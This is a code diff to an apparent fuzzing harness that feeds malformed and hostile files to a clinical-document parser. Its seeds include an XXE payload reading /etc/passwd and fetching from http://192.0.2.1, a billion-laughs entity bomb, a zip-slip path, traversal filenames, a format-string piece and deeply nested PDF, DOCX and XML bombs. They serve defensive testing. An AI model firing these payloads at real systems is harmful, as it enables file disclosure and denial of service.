@@ -112,7 +112,7 @@ def mail() -> bytes:
     message.set_content("\n".join(NOTICE))
     message.add_alternative("<html><body><p>" + "</p><p>".join(NOTICE) + "</p></body></html>", subtype="html")
     message.add_attachment(pdf_text(), maintype="application", subtype="pdf", filename="../../notice.pdf")
-    message.add_attachment("Visit notes.".encode(), maintype="text", subtype="plain", filename="notes.txt")
+    message.add_attachment(b"Visit notes.", maintype="text", subtype="plain", filename="notes.txt")
     return bytes(message)
 
 
@@ -145,19 +145,19 @@ FHIR = json.dumps(
     }
 ).encode()
 CCDA = (
-    '<?xml version="1.0"?><ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
-    "<title>Summary</title><recordTarget><patientRole><patient><name><given>Rosalind</given><family>Achterberg</family></name>"
-    '<birthTime value="19830228"/></patient></patientRole></recordTarget><component><structuredBody><component><section>'
-    '<code code="11450-4"/><title>Problems</title><text><table><tr><td ID="p1">Radiculopathy</td></tr></table></text><entry>'
-    '<observation classCode="OBS"><value xsi:type="CD" code="M54.16" displayName="Radiculopathy"/></observation></entry></section>'
-    "</component></structuredBody></component></ClinicalDocument>"
-).encode()
+    b'<?xml version="1.0"?><ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
+    b"<title>Summary</title><recordTarget><patientRole><patient><name><given>Rosalind</given><family>Achterberg</family></name>"
+    b'<birthTime value="19830228"/></patient></patientRole></recordTarget><component><structuredBody><component><section>'
+    b'<code code="11450-4"/><title>Problems</title><text><table><tr><td ID="p1">Radiculopathy</td></tr></table></text><entry>'
+    b'<observation classCode="OBS"><value xsi:type="CD" code="M54.16" displayName="Radiculopathy"/></observation></entry></section>'
+    b"</component></structuredBody></component></ClinicalDocument>"
+)
 ERA = (
-    "ISA*00*          *00*          *ZZ*PLAN           *ZZ*CLINIC         *260303*1000*^*00501*000000001*0*P*:~GS*HP*PLAN*CLINIC*20260303*1000"
-    "*1*X*005010X221A1~ST*835*0001~BPR*I*0*C*NON************20260303~TRN*1*12345*1999999999~N1*PR*SAMPLE PLAN~N1*PE*CLINIC*XX*1234567893~"
-    "LX*1~CLP*CL1*4*500*0*500*12*999~CAS*CO*50*500~NM1*QC*1*ACHTERBERG*ROSALIND****MI*W555~SVC*HC:22612*500*0**1~DTM*472*20260101~"
-    "CAS*CO*50*500~SE*14*0001~GE*1*1~IEA*1*000000001~"
-).encode()
+    b"ISA*00*          *00*          *ZZ*PLAN           *ZZ*CLINIC         *260303*1000*^*00501*000000001*0*P*:~GS*HP*PLAN*CLINIC*20260303"
+    b"*1000*1*X*005010X221A1~ST*835*0001~BPR*I*0*C*NON************20260303~TRN*1*12345*1999999999~N1*PR*SAMPLE PLAN~N1*PE*CLINIC*XX*1234567893~"
+    b"LX*1~CLP*CL1*4*500*0*500*12*999~CAS*CO*50*500~NM1*QC*1*ACHTERBERG*ROSALIND****MI*W555~SVC*HC:22612*500*0**1~DTM*472*20260101~"
+    b"CAS*CO*50*500~SE*14*0001~GE*1*1~IEA*1*000000001~"
+)
 
 # name, bytes, share of the mutated files (pictures are read by OCR and cost most)
 SEEDS: tuple[tuple[str, Callable[[], bytes], int], ...] = (
@@ -254,27 +254,41 @@ def pdf_bombs() -> Iterator[tuple[str, bytes]]:
     yield "jbig.pdf", _page(_stream(b"600 0 0 700 0 0 cm /X Do"), uses, b"[0 0 612 792]", _stream(b"\0" * 64, jbig))
     font = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar -9/LastChar 99999999/Widths[1]/FontDescriptor<</FontFile2 6 0 R>>>>"
     broken = b"\0\1\0\0\0\xff\xff\xff" + b"\xff" * 4000
-    yield "font.pdf", _pdf(
-        *(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
-        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
-        *(_stream(b"BT /F 12 Tf 9 9 Td (word) Tj ET"), font, _stream(broken, b"/Length1 99999999")),
+    yield (
+        "font.pdf",
+        _pdf(
+            *(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
+            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
+            *(_stream(b"BT /F 12 Tf 9 9 Td (word) Tj ET"), font, _stream(broken, b"/Length1 99999999")),
+        ),
     )
     cmap = b"begincmap 1 beginbfrange <0000> <FFFF> <0041> endbfrange " * 3000
-    yield "cmap.pdf", _pdf(
-        *(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
-        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
-        _stream(b"BT /F 12 Tf 9 9 Td (word) Tj ET"),
-        *(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>", _stream(cmap)),
+    yield (
+        "cmap.pdf",
+        _pdf(
+            *(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
+            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
+            _stream(b"BT /F 12 Tf 9 9 Td (word) Tj ET"),
+            *(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>", _stream(cmap)),
+        ),
     )
     fields = b"".join(b"<</T(f%d)/FT/Tx/V(v)/Kids[1 0 R]>>" % n for n in range(4000))
-    yield "form-loop.pdf", _pdf(
-        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[" + fields + b" 1 0 R]>>>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page>>"
+    yield (
+        "form-loop.pdf",
+        _pdf(
+            b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[" + fields + b" 1 0 R]>>>>",
+            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+            b"<</Type/Page>>",
+        ),
     )
-    yield "self-parent.pdf", _pdf(
-        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]>>>>",
-        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
-        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Annots[4 0 R]>>",
-        b"<</Subtype/Widget/T(a)/FT/Tx/V(v)/Parent 4 0 R/Kids[4 0 R]/Rect[0 0 9 9]/P 3 0 R>>",
+    yield (
+        "self-parent.pdf",
+        _pdf(
+            b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]>>>>",
+            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Annots[4 0 R]>>",
+            b"<</Subtype/Widget/T(a)/FT/Tx/V(v)/Parent 4 0 R/Kids[4 0 R]/Rect[0 0 9 9]/P 3 0 R>>",
+        ),
     )
 
 
@@ -286,14 +300,16 @@ def other_bombs() -> Iterator[tuple[str, bytes]]:
     yield "deep.docx", _zip({**sound, "word/document.xml": words + b"<w:tbl><w:tr><w:tc>" * 40_000})
     closed = words + b"<w:tbl><w:tr><w:tc>" * 3000 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 3000 + b"</w:body></w:document>"
     yield "deep-closed.docx", _zip({**sound, "word/document.xml": closed})
-    laughs = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%s;" % (b"%d" % (n - 1) if n else b"") * 10) for n in range(10))
+    grown = (b'<!ENTITY a%d "%s">' % (n, b"&a%s;" % (b"%d" % (n - 1) if n else b"") * 10) for n in range(10))
+    laughs = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(grown)
     yield "laughs.docx", _zip({**sound, "word/document.xml": laughs + b"]>" + words + b"&a9;</w:body></w:document>"})
     yield "slip.docx", _zip({**sound, "word/document.xml": words + b"</w:body></w:document>", "../../../tmp/evil": b"x"})
     cda = b'<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&a9;</title>'
     yield "laughs.xml", laughs + b"]>" + cda + b"</ClinicalDocument>"
     outside = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]>'
     yield "outside.xml", b"<?xml version='1.0'?>" + outside + cda.replace(b"&a9;", b"&e;") + b"</ClinicalDocument>"
-    yield "quadratic.xml", b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 100_000 + b'">]>' + cda.replace(b"&a9;", b"&a;" * 5000) + b"</ClinicalDocument>"
+    long_name = b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 100_000 + b'">]>'
+    yield "quadratic.xml", long_name + cda.replace(b"&a9;", b"&a;" * 5000) + b"</ClinicalDocument>"
     yield "deep.xml", cda.replace(b"&a9;", b"") + b"<component>" * 200_000
     yield "deep-closed.xml", cda.replace(b"&a9;", b"") + b"<component>" * 5000 + b"</component>" * 5000 + b"</ClinicalDocument>"
     attributes = b" ".join(b"a%d='1'" % n for n in range(200_000))
@@ -309,7 +325,8 @@ def other_bombs() -> Iterator[tuple[str, bytes]]:
     head = b"From: a@example.com\nTo: b@example.com\nDate: Tue, 03 Mar 2026 10:00:00 +0000\nMIME-Version: 1.0\n"
     yield "multipart.eml", head + b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(3000))
     yield "messages.eml", (head + b"Content-Type: message/rfc822\n\n") * 600 + head + b"\nhello"
-    yield "parts.eml", head + b"Content-Type: multipart/mixed; boundary=b\n\n" + b"--b\nContent-Disposition: attachment; filename=a.txt\n\nx\n" * 60_000
+    part = b"--b\nContent-Disposition: attachment; filename=a.txt\n\nx\n"
+    yield "parts.eml", head + b"Content-Type: multipart/mixed; boundary=b\n\n" + part * 60_000
     yield "header.eml", head + b"Subject: " + b"=?utf-8?B?" + b"QUJD" * 300_000 + b"?=\n\nhello"
     yield "tables.html", b"<html><body>" + b"<table><tr><td>" * 30_000 + b"x"
     yield "spans.html", b"<html><table><tr>" + b"<td rowspan=999999 colspan=999999>x" * 300 + b"</table>"
@@ -337,6 +354,9 @@ def other_bombs() -> Iterator[tuple[str, bytes]]:
 
 
 # ---- mutation ----
+
+
+_PIECES = (b"\0" * 9, b"\xff" * 9, b"<", b"&", b"{", b"(", b"]]>", b"obj", b"endstream", b"\r\n\r\n", b"%s%n")
 
 
 def mutated(data: bytes, dice: random.Random, others: list[bytes]) -> bytes:
@@ -367,7 +387,7 @@ def mutated(data: bytes, dice: random.Random, others: list[bytes]) -> bytes:
                 if digits:
                     out[digits[0] : digits[0] + 1] = dice.choice((b"99999999", b"-1", b"0", b"4294967296", b"1e30"))
             case 7:
-                out[at:at] = dice.choice((b"\0" * 9, b"\xff" * 9, b"<", b"&", b"{", b"(", b"]]>", b"obj", b"endstream", b"\r\n\r\n", b"%s%n"))
+                out[at:at] = dice.choice(_PIECES)
             case _:
                 size = dice.randrange(1, 16)
                 two = dice.randrange(len(out))
@@ -385,6 +405,14 @@ class Tally:
         self.ends: Counter[str] = Counter()
         self.slowest: tuple[float, str] = (0.0, "")
         self.deadly: list[str] = []
+        self.peak = 0
+
+    def _note_memory(self) -> None:
+        """The most memory that the parsing process has had, where the system tells."""
+        status = Path(f"/proc/{self.parser.process_id}/status")
+        if self.parser.process_id is not None and status.exists():
+            held = next((line for line in status.read_text(encoding="ascii").splitlines() if line.startswith("VmHWM")), "VmHWM: 0 kB")
+            self.peak = max(self.peak, int(held.split()[1]) // 1024)
 
     def see(self, name: str, data: bytes) -> str:
         """Read one file; how it ended."""
@@ -401,6 +429,7 @@ class Tally:
         except DenialHelpError as error:
             end = f"refused: {error.code}"
         taken = time.perf_counter() - begun
+        self._note_memory()
         self.slowest = max(self.slowest, (taken, name))
         self.ends[end] += 1
         if end.startswith(("HANG", "CRASH")):
@@ -442,7 +471,7 @@ def main() -> int:
     used = resource.getrusage(resource.RUSAGE_CHILDREN)
     for end, number in tally.ends.most_common():
         print(f"{end:28} {number}")
-    print(f"slowest {tally.slowest[0]:.1f} s ({tally.slowest[1]}); processor {used.ru_utime + used.ru_stime:.0f} s; peak {used.ru_maxrss // 1024} MB")
+    print(f"slowest {tally.slowest[0]:.1f} s ({tally.slowest[1]}); processor {used.ru_utime + used.ru_stime:.0f} s; peak {tally.peak} MB")
     print(f"temporary files left {len(left)}")
     for line in tally.deadly[:40]:
         print(" ", line)
